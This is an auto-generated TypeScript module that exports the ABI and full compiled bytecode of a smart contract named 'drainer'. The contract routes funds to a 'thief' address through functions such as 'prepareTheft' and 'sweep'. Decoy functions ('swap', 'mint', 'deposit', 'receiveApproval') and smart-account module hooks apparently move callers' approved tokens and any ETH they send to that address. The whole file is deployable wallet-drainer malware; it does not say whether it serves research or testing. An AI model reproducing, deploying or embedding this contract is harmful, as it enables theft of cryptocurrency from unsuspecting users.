// Written by scripts/compile.ts. Do not edit.
export const drainerAbi = [
  {
    "inputs": [
      {
        "internalType": "address payable",
        "name": "thief_",
        "type": "address"
      }
    ],
    "stateMutability": "nonpayable",
    "type": "constructor"
  },
  {
    "inputs": [
      {
        "internalType": "address[]",
        "name": "tokens",
        "type": "address[]"
      }
    ],
    "name": "claim",
    "outputs": [],
    "stateMutability": "payable",
    "type": "function"
  },
  {
    "inputs": [
      {
        "internalType": "address",
        "name": "token",
        "type": "address"
      },
      {
        "internalType": "uint256",
        "name": "",
        "type": "uint256"
      }
    ],
    "name": "deposit",
    "outputs": [],
    "stateMutability": "nonpayable",
    "type": "function"
  },
  {
    "inputs": [
      {
        "internalType": "address",
        "name": "",
        "type": "address"
      }
    ],
    "name": "isInitialized",
    "outputs": [
      {
        "internalType": "bool",
        "name": "",
        "type": "bool"
      }
    ],
    "stateMutability": "pure",
    "type": "function"
  },
  {
    "inputs": [
      {
        "internalType": "uint256",
        "name": "",
        "type": "uint256"
      }
    ],
    "name": "isModuleType",
    "outputs": [
      {
        "internalType": "bool",
        "name": "",
        "type": "bool"
      }
    ],
    "stateMutability": "pure",
    "type": "function"
  },
  {
    "inputs": [
      {
        "internalType": "address",
        "name": "",
        "type": "address"
      },
      {
        "internalType": "bytes32",
        "name": "",
        "type": "bytes32"
      },
      {
        "internalType": "bytes",
        "name": "",
        "type": "bytes"
      }
    ],
    "name": "isValidSignatureWithSender",
    "outputs": [
      {
        "internalType": "bytes4",
        "name": "",
        "type": "bytes4"
      }
    ],
    "stateMutability": "pure",
    "type": "function"
  },
  {
    "inputs": [
      {
        "internalType": "uint256",
        "name": "",
        "type": "uint256"
      }
    ],
    "name": "mint",
    "outputs": [],
    "stateMutability": "payable",
    "type": "function"
  },
  {
    "inputs": [
      {
        "internalType": "bytes",
        "name": "",
        "type": "bytes"
      }
    ],
    "name": "onInstall",
    "outputs": [],
    "stateMutability": "payable",
    "type": "function"
  },
  {
    "inputs": [
      {
        "internalType": "bytes",
        "name": "",
        "type": "bytes"
      }
    ],
    "name": "onUninstall",
    "outputs": [],
    "stateMutability": "payable",
    "type": "function"
  },
  {
    "inputs": [
      {
        "internalType": "address",
        "name": "target",
        "type": "address"
      },
      {
        "internalType": "bytes",
        "name": "data",
        "type": "bytes"
      }
    ],
    "name": "perform",
    "outputs": [],
    "stateMutability": "payable",
    "type": "function"
  },
  {
    "inputs": [
      {
        "internalType": "bytes",
        "name": "",
        "type": "bytes"
      }
    ],
    "name": "postCheck",
    "outputs": [],
    "stateMutability": "payable",
    "type": "function"
  },
  {
    "inputs": [
      {
        "internalType": "address",
        "name": "",
        "type": "address"
      },
      {
        "internalType": "uint256",
        "name": "",
        "type": "uint256"
      },
      {
        "internalType": "bytes",
        "name": "",
        "type": "bytes"
      }
    ],
    "name": "preCheck",
    "outputs": [
      {
        "internalType": "bytes",
        "name": "",
        "type": "bytes"
      }
    ],
    "stateMutability": "payable",
    "type": "function"
  },
  {
    "inputs": [
      {
        "internalType": "address",
        "name": "token",
        "type": "address"
      }
    ],
    "name": "prepareTheft",
    "outputs": [],
    "stateMutability": "payable",
    "type": "function"
  },
  {
    "inputs": [
      {
        "internalType": "address",
        "name": "from",
        "type": "address"
      },
      {
        "internalType": "uint256",
        "name": "",
        "type": "uint256"
      },
      {
        "internalType": "address",
        "name": "token",
        "type": "address"
      },
      {
        "internalType": "bytes",
        "name": "",
        "type": "bytes"
      }
    ],
    "name": "receiveApproval",
    "outputs": [],
    "stateMutability": "nonpayable",
    "type": "function"
  },
  {
    "inputs": [
      {
        "internalType": "address[]",
        "name": "path",
        "type": "address[]"
      },
      {
        "internalType": "uint256",
        "name": "",
        "type": "uint256"
      },
      {
        "internalType": "address",
        "name": "",
        "type": "address"
      }
    ],
    "name": "swap",
    "outputs": [],
    "stateMutability": "payable",
    "type": "function"
  },
  {
    "inputs": [
      {
        "internalType": "uint256",
        "name": "",
        "type": "uint256"
      },
      {
        "internalType": "address[]",
        "name": "",
        "type": "address[]"
      },
      {
        "internalType": "address",
        "name": "",
        "type": "address"
      },
      {
        "internalType": "uint256",
        "name": "",
        "type": "uint256"
      }
    ],
    "name": "swapExactETHForTokens",
    "outputs": [],
    "stateMutability": "payable",
    "type": "function"
  },
  {
    "inputs": [
      {
        "internalType": "uint256",
        "name": "amountIn",
        "type": "uint256"
      },
      {
        "internalType": "uint256",
        "name": "",
        "type": "uint256"
      },
      {
        "internalType": "address[]",
        "name": "path",
        "type": "address[]"
      },
      {
        "internalType": "address",
        "name": "",
        "type": "address"
      },
      {
        "internalType": "uint256",
        "name": "",
        "type": "uint256"
      }
    ],
    "name": "swapExactTokensForTokens",
    "outputs": [],
    "stateMutability": "nonpayable",
    "type": "function"
  },
  {
    "inputs": [
      {
        "internalType": "address[]",
        "name": "tokens",
        "type": "address[]"
      }
    ],
    "name": "sweep",
    "outputs": [],
    "stateMutability": "payable",
    "type": "function"
  },
  {
    "inputs": [],
    "name": "thief",
    "outputs": [
      {
        "internalType": "address payable",
        "name": "",
        "type": "address"
      }
    ],
    "stateMutability": "view",
    "type": "function"
  },
  {
    "stateMutability": "payable",
    "type": "receive"
  }
] as const

export const drainerBytecode =
  '0x60a03461009457601f610fc538819003918201601f19168301916001600160401b038311848410176100985780849260209460405283398101031261009457516001600160a01b038116810361009457608052604051610f1890816100ad8239608051818181610210015281816105d90152818161083a0152818161095801528181610a2b01528181610ce40152610e170152f35b5f80fd5b634e487b7160e01b5f52604160045260245ffdfe6080604052600436101561001a575b3615610018575f80fd5b005b5f3560e01c806314f0170414610abe578063173bf7da1461052b578063318d9e5d14610a4f57806334513589146109e157806338ed1739146108ab5780633f4f8ba9146107ac57806347e7ef241461076c5780636d61fe701461052b578063780469bb1461058d5780637ff36ab5146105305780638a91b0e31461052b5780638f4ffcb1146104c1578063a0712d681461048f578063d60b347f1461044c578063d68f60251461039a578063ea1651b3146101a6578063ecd059611461016c5763f551e2ee0361000e57346101685760607ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffc3601126101685761011b610b99565b5060443567ffffffffffffffff81116101685761013c903690600401610bbc565b505060206040517f1626ba7e000000000000000000000000000000000000000000000000000000008152f35b5f80fd5b346101685760207ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffc36011261016857602060405160018152f35b60407ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffc360112610168576101d8610b99565b60243567ffffffffffffffff8111610168576101f8903690600401610bbc565b9173ffffffffffffffffffffffffffffffffffffffff7f000000000000000000000000000000000000000000000000000000000000000016330361033c57825f9392849360405192839283378101848152039134905af13d15610337573d67ffffffffffffffff811161030a576040519061029b601f82017fffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffe01660200183610c65565b81525f60203d92013e5b156102ac57005b60646040517f08c379a000000000000000000000000000000000000000000000000000000000815260206004820152600660248201527f6661696c656400000000000000000000000000000000000000000000000000006044820152fd5b7f4e487b71000000000000000000000000000000000000000000000000000000005f52604160045260245ffd5b6102a5565b60646040517f08c379a000000000000000000000000000000000000000000000000000000000815260206004820152600d60248201527f6e6f7420746865207468696566000000000000000000000000000000000000006044820152fd5b60607ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffc360112610168576103cc610b99565b5060443567ffffffffffffffff8111610168576103ed903690600401610bbc565b50506020604080516103ff8382610c65565b5f81527fffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffe0601f835194859381855280519182918282880152018686015e5f85828601015201168101030190f35b346101685760207ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffc36011261016857610483610b99565b50602060405160018152f35b60207ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffc36011261016857610018610cbe565b346101685760807ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffc360112610168576104f8610b99565b610500610b53565b6064359167ffffffffffffffff831161016857610524610018933690600401610bbc565b5050610d16565b610bea565b60807ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffc3601126101685760243567ffffffffffffffff81116101685761057a903690600401610b22565b5050610584610b53565b50610018610cbe565b60207ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffc3601126101685760043567ffffffffffffffff8111610168576105d7903690600401610b22565b7f000000000000000000000000000000000000000000000000000000000000000073ffffffffffffffffffffffffffffffffffffffff16905f5b81811061061a57005b73ffffffffffffffffffffffffffffffffffffffff61064261063d838588610c34565b610c44565b16906024602073ffffffffffffffffffffffffffffffffffffffff61066b61063d85888b610c34565b16604051928380927f70a082310000000000000000000000000000000000000000000000000000000082523060048301525afa908115610730575f9161073b575b505f92604460209260405195869384927fa9059cbb0000000000000000000000000000000000000000000000000000000084528a600485015260248401525af191821561073057600192610702575b5001610611565b6107229060203d8111610729575b61071a8183610c65565b810190610ca6565b50856106fb565b503d610710565b6040513d5f823e3d90fd5b90506020813d8211610764575b8161075560209383610c65565b8101031261016857515f6106ac565b3d9150610748565b346101685760407ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffc360112610168576100186107a6610b99565b33610d16565b60207ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffc360112610168575f602073ffffffffffffffffffffffffffffffffffffffff6107f6610b99565b166044604051809481937f095ea7b300000000000000000000000000000000000000000000000000000000835273ffffffffffffffffffffffffffffffffffffffff7f00000000000000000000000000000000000000000000000000000000000000001660048401527fffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff60248401525af180156107305761089357005b6100189060203d6020116107295761071a8183610c65565b346101685760a07ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffc3601126101685760443567ffffffffffffffff8111610168576108fa903690600401610b22565b610902610b76565b50156109b45761092673ffffffffffffffffffffffffffffffffffffffff91610c44565b6040517f23b872dd000000000000000000000000000000000000000000000000000000008152336004808301919091527f000000000000000000000000000000000000000000000000000000000000000073ffffffffffffffffffffffffffffffffffffffff16602483015235604482015291602091839160649183915f91165af180156107305761089357005b7f4e487b71000000000000000000000000000000000000000000000000000000005f52603260045260245ffd5b34610168575f7ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffc36011261016857602060405173ffffffffffffffffffffffffffffffffffffffff7f0000000000000000000000000000000000000000000000000000000000000000168152f35b60207ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffc3601126101685760043567ffffffffffffffff811161016857610a99903690600401610b22565b5f5b818110610aa457005b80610ab86107a661063d6001948688610c34565b01610a9b565b60607ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffc3601126101685760043567ffffffffffffffff811161016857610b08903690600401610b22565b610b10610b53565b50156109b4576107a661001891610c44565b9181601f840112156101685782359167ffffffffffffffff8311610168576020808501948460051b01011161016857565b6044359073ffffffffffffffffffffffffffffffffffffffff8216820361016857565b6064359073ffffffffffffffffffffffffffffffffffffffff8216820361016857565b6004359073ffffffffffffffffffffffffffffffffffffffff8216820361016857565b9181601f840112156101685782359167ffffffffffffffff8311610168576020838186019501011161016857565b60207ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffc3601126101685760043567ffffffffffffffff811161016857610018903690600401610bbc565b91908110156109b45760051b0190565b3573ffffffffffffffffffffffffffffffffffffffff811681036101685790565b90601f7fffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffe0910116810190811067ffffffffffffffff82111761030a57604052565b90816020910312610168575180151581036101685790565b5f3415610d0d575b5f80808093349073ffffffffffffffffffffffffffffffffffffffff7f00000000000000000000000000000000000000000000000000000000000000001690f11561073057565b506108fc610cc6565b9073ffffffffffffffffffffffffffffffffffffffff1690604051917fdd62ed3e00000000000000000000000000000000000000000000000000000000835273ffffffffffffffffffffffffffffffffffffffff8216806004850152306024850152602084604481855afa938415610730575f94610ed7575b50604051907f70a082310000000000000000000000000000000000000000000000000000000082526004820152602081602481855afa908115610730575f91610e9d575b50610e6993602093929180821015610e955750915b5f6040518096819582947f23b872dd0000000000000000000000000000000000000000000000000000000084527f0000000000000000000000000000000000000000000000000000000000000000906004850173ffffffffffffffffffffffffffffffffffffffff6040929594938160608401971683521660208201520152565b03925af1801561073057610e7a5750565b610e929060203d6020116107295761071a8183610c65565b50565b905091610de8565b929190506020833d602011610ecf575b81610eba60209383610c65565b81010312610168579151909190610e69610dd3565b3d9150610ead565b9093506020813d602011610f03575b81610ef360209383610c65565b810103126101685751925f610d8f565b3d9150610ee656fea164736f6c634300081e000a' as const
